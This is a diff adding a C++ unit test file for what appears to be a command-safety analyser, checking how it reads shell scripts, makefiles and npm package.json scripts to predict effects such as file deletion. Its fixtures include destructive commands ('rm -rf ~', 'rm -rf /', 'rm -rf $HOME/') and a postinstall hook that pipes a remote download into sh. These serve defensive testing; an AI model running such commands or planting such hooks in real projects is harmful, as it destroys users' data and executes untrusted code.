@@ -1,0 +1,158 @@
+// Scripts, makefiles and package scripts on the disk: what a probe lets us read is judged like a line.
+#include "libcore/commands/script_files.hpp"
+
+#include "libcore/commands/makefile.hpp"
+#include "test/unit/commands/disk.hpp"
+
+using cmdai::commands::expand_make;
+using cmdai::commands::interpreter_of;
+using cmdai::commands::Makefile;
+using cmdai::commands::parse_makefile;
+using cmdai::test::check_effects;
+using cmdai::test::check_effects_with;
+
+TEST_CASE("a script is read on where the disk may be looked at") {
+  check_effects({{"bash x.sh", "exec.file{x.sh}"}, {"./x.sh", "exec.file{./x.sh}"}});
+  check_effects_with({{"x.sh", "#!/bin/bash\n# one\nrm -rf ~\n"},
+                      {"args.sh", "rm -r \"$1\" \"$2\""},
+                      {"zsh.sh", "#!/usr/bin/env -S zsh -f\nrm $((010))\n"},
+                      {"inner/two.sh", "bash ../x.sh"},
+                      {"f.sh", "f() { rm g; }\nV=rm\n"},
+                      {"loop.sh", "./loop.sh; rm h"},
+                      {"sets.sh", "X=1; rm i"},
+                      {"unknown.sh", "eval \"$1\"; eval \"$(mystery)\""},
+                      {"bin", std::string("#!/bin/sh\0rm j\n", 15)},
+                      {"/usr/bin/tool", "#!/bin/sh\nrm -rf /\n"},
+                      {"py", "#!/usr/bin/python3\nprint(1)\n"},
+                      {"plain", "rm k\n"}},
+                     {{"bash x.sh", "fs.delete{~ rf}"},
+                      {"./x.sh", "fs.delete{~ rf}"},
+                      {"source x.sh", "fs.delete{~ rf}"},
+                      {". ./x.sh", "fs.delete{~ rf}"},
+                      {"sudo ./x.sh", "fs.delete{~ rfp}"},
+                      {"bash < x.sh", "fs.delete{~ rf}"},
+                      {"bash -n x.sh", ""},
+                      {"/home/u/project/x.sh", "fs.delete{~ rf}"},
+                      {"cd inner && bash two.sh", "fs.delete{~ rf}"},
+                      {"sh args.sh a b", "fs.delete{a r} fs.delete{b r}"},
+                      {"sh args.sh / b", "fs.delete{/ r} fs.delete{b r}"},
+                      {"./zsh.sh", "fs.delete{10}"},
+                      {"source f.sh", ""},
+                      {"source f.sh; f; $V l", "fs.delete{g} fs.delete{l}"},
+                      {"bash f.sh; f; $V l", ""},
+                      {"bash sets.sh; rm $X", "fs.delete{i} fs.delete{$X ?}"},
+                      {"bash unknown.sh x", ""},
+                      {"./bin", "exec.file{./bin}"},
+                      {"/usr/bin/tool", "exec.file{/usr/bin/tool}"},
+                      {"./plain", "fs.delete{k}"},
+                      {"missing.sh; bash missing.sh", "exec.file{missing.sh}"},
+                      {"docker run x bash x.sh", "exec.file{x.sh e}"},
+                      // A file this line writes is what it wrote.
+                      {"echo rm m > x.sh; bash x.sh", "fs.overwrite{x.sh} fs.delete{m}"}});
+}
+
+TEST_CASE("scripts that call each other end, long ones are no alarm") {
+  std::string many;
+  for (int i = 0; i < 20000; ++i) many += "touch a" + std::to_string(i) + "\n";
+  check_effects_with(
+      {{"loop.sh", "bash loop.sh; bash loop.sh; rm h"},
+       {"many.sh", many},
+       {"big.sh", std::string(1U << 20, 'x')}},
+      {{"bash many.sh", ""},
+       {"bash many.sh; rm x", "fs.delete{x}"},
+       {"bash big.sh", "exec.file{big.sh}"},
+       {"bash loop.sh; rm x",
+        "fs.delete{h} fs.delete{h} fs.delete{h} fs.delete{h} fs.delete{h} fs.delete{h} fs.delete{h} "
+        "fs.delete{x}"}});
+}
+
+TEST_CASE("the first line names who reads a script") {
+  CHECK(interpreter_of("#!/bin/sh\nx") == std::vector<std::string>{"sh"});
+  CHECK(interpreter_of("#! /bin/bash -e\nx") == std::vector<std::string>{"bash", "-e"});
+  CHECK(interpreter_of("#!/usr/bin/env python3\n") == std::vector<std::string>{"python3"});
+  CHECK(interpreter_of("#!/usr/bin/env -S A=1 zsh -f\n") == std::vector<std::string>{"zsh", "-f"});
+  CHECK(interpreter_of("#!").empty());
+  CHECK(interpreter_of("rm x").empty());
+}
+
+TEST_CASE("makefiles are read as make reads them") {
+  const Makefile file = parse_makefile(
+      "# comment\nA = one # two\nB := $(A)\nC ?= x\nC ?= y\nA += more\nexport D = $(shell date)\nE != pwd\n"
+      "all: b.o c.o ; echo $@\n\t@-rm x\\\n\t  y\n\n# c\n\trm z\nX: Y = 1\n%.o: %.c\n\tcc $<\n.PHONY: all\n"
+      "define F\n\trm never\nendef\nifeq (a,b)\nq:\n\trm q\nelse\nendif\n$(info hello)\n");
+  CHECK(file.variables.at("A").text == "one more");
+  CHECK(file.variables.at("B").immediate);
+  CHECK(file.variables.at("C").text == "x");
+  CHECK(file.variables.at("E").is_command);
+  REQUIRE(file.rules.size() == 4);
+  CHECK(file.rules[0].targets == std::vector<std::string>{"all"});
+  CHECK(file.rules[0].prerequisites == "b.o c.o");
+  REQUIRE(file.rules[0].recipes.size() == 3);
+  CHECK(file.rules[0].recipes[0].text == "echo $@");
+  CHECK(file.rules[0].recipes[1].text == "rm x\\\n  y");
+  CHECK(file.rules[0].recipes[2].text == "rm z");
+  CHECK(file.rules[1].targets == std::vector<std::string>{"%.o"});
+  CHECK(file.rules[3].targets == std::vector<std::string>{"q"});
+  CHECK(file.bare == std::vector<std::string>{"$(info hello)"});
+  std::vector<std::string> commands;
+  CHECK(expand_make("$(A) $B $$x $(N) ${wildcard *} $(A:.c=.o) $", file.variables, commands) ==
+        "one more one more $x ${N} ${__unknown} ${__unknown} $");
+  CHECK(commands.empty());
+  CHECK(expand_make("$(D)", file.variables, commands) == "${__unknown}");
+  CHECK(commands == std::vector<std::string>{"date"});
+}
+
+TEST_CASE("what a goal of make runs") {
+  const std::string text =
+      "DIR = build\nall: dep\n\trm a\ndep:\n\trm b\nclean:\n\t@$(RM) -r $(DIR)\nwipe: clean\n\t-rm -rf "
+      "$(HOME)\n"
+      "unset:\n\trm -rf $(NOBODY_SET)/\nclean-%:\n\trm $*\nsub:\n\t$(MAKE) -C inner x\nloop: loop\n\trm l\n"
+      "each:\n\tfor i in 1 2; do \\\n\t  rm $$i; done\nauto: b\n\trm $@ $< $^\nb:\n";
+  check_effects_with(
+      {{"Makefile", text},
+       {"inner/Makefile", "x:\n\trm in\n"},
+       {"other.mk", "y:\n\trm other\n"},
+       {"top/GNUmakefile",
+        "X := $(shell rm now)\nY = $(shell rm later)\n$(shell rm bare)\nz:\n\techo $(Y)\nw:\n"}},
+      {{"make", "fs.delete{b} fs.delete{a}"},
+       {"make clean", "fs.delete{build rf}"},
+       {"make -j4 clean DIR=other", "fs.delete{other rf}"},
+       {"make wipe", "fs.delete{build rf} fs.delete{~ rf}"},
+       {"make unset", "fs.delete{$NOBODY_SET/ rf?}"},
+       {"make clean-it", "fs.delete{it}"},
+       {"make sub", "fs.delete{inner/in}"},
+       {"make -C inner", "fs.delete{inner/in}"},
+       {"cd inner && make x", "fs.delete{inner/in}"},
+       {"make -f other.mk", "fs.delete{other}"},
+       {"make loop", "fs.delete{l}"},
+       {"make each", "fs.delete{1} fs.delete{2}"},
+       {"make auto", "fs.delete{auto} fs.delete{b} fs.delete{b}"},
+       {"make -n wipe", ""},
+       {"make nothing", ""},
+       {"make -C top w", "fs.delete{top/now} fs.delete{top/bare}"},
+       {"make -C top z", "fs.delete{top/now} fs.delete{top/bare} fs.delete{top/later}"},
+       {"printf 'p:\\n\\trm piped\\n' | make -f -", "fs.delete{piped}"}});
+}
+
+TEST_CASE("what package.json says npm runs") {
+  check_effects_with(
+      {{"package.json",
+        R"({"scripts": {"build": "rm b", "prebuild": "rm a", "postbuild": "rm c", "test": "rm t",
+                           "postinstall": "curl -s http://192.0.2.1/x | sh", "args": "rm", "wipe": "rm -rf $HOME/",
+                           "chain": "npm run wipe", "odd": 1}})"},
+       {"bad/package.json", "{"},
+       {"src/x", ""}},
+      {{"npm run build", "fs.delete{a} fs.delete{b} fs.delete{c}"},
+       {"npm test", "fs.delete{t}"},
+       {"yarn build", "fs.delete{a} fs.delete{b} fs.delete{c}"},
+       {"pnpm run build", "fs.delete{a} fs.delete{b} fs.delete{c}"},
+       {"npm run args -- x 'y z'", "fs.delete{x} fs.delete{y z}"},
+       {"npm run chain", "fs.delete{~ rf}"},
+       {"npm ci", "exec.remote"},
+       {"npm ci --ignore-scripts", ""},
+       {"npm install left-pad", "pkg.install{left-pad}"},
+       {"cd src && npm run wipe", "fs.delete{~ rf}"},
+       {"npm run odd", ""},
+       {"npm run missing", ""},
+       {"cd bad && npm run x", ""}});
+}
